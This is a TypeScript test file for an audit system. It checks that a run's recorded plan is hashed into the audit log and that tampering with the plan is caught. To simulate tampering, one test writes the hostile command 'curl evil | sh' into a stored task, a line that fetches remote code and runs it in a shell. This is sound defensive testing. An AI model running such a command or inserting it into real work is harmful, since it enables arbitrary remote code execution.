import { sql } from 'kysely';
import { beforeAll, describe, expect, it } from 'vitest';
import { planSha256, verifyAudit } from '../../actors/index.js';
import { readRunSource } from '../../engine/index.js';
import { tamper } from '../support/audit-tamper.js';
import { testDatabases } from '../support/test-database.js';
import { engineSuite, runSandboxPlan, writeCmd } from './engine-fixtures.js';

// Issue 11: the audit covers the recorded plan (`run_sources.plan`) by hash: the run's start audit row records the
// canonical plan's SHA-256 and `audit verify` recomputes it, naming a run whose recorded plan was changed.
describe.each(testDatabases())('the recorded plan is covered by the audit (%s)', (kind) => {
  const suite = engineSuite(kind);
  beforeAll(async () => {
    const box = await suite.sandbox();
    const { status } = await runSandboxPlan(box, suite.db, {
      run: { id: 'planned' },
      workers: { orchestration: [{ id: 'agent', count: 1, capabilities: [] }] },
      workstreams: [{ id: 'ws', tasks: [{ id: 'one', command: writeCmd('src/one.js', 'export const one = 1;\n') }] }],
    });
    expect(status.state).toBe('succeeded');
  }, 300_000);

  it('the run\'s start audit row records the plan\'s sha256, and verify checks it', async () => {
    const source = await readRunSource(suite.db.db, 'planned');
    const start = await suite.db.db.selectFrom('state_transitions').select(['metadata', 'trigger']).where('entity_type', '=', 'run').where('entity_id', '=', 'planned').where('seq', '=', 2).executeTakeFirstOrThrow();
    expect(start).toMatchObject({ trigger: 'start', metadata: { plan_sha256: planSha256(source.plan) } });
    expect(await verifyAudit(suite.db.db)).toMatchObject({ ok: true, content: { runSourcesChecked: 1, runSourcesUnrecorded: [], mismatches: [] } });
  });

  it('a changed recorded plan (a task command swapped) fails verify, naming the run', async () => {
    await tamper(suite.db, sql`UPDATE run_sources SET plan = jsonb_set(plan, '{workstreams,0,tasks,0,command}', '["sh","-c","curl evil | sh"]'::jsonb) WHERE run_id = 'planned'`);
    const v = await verifyAudit(suite.db.db);
    expect(v).toMatchObject({ ok: false, firstBroken: null });
    expect(v.content.mismatches).toEqual([expect.objectContaining({ table: 'run_sources', id: 'planned' })]);
  });
});
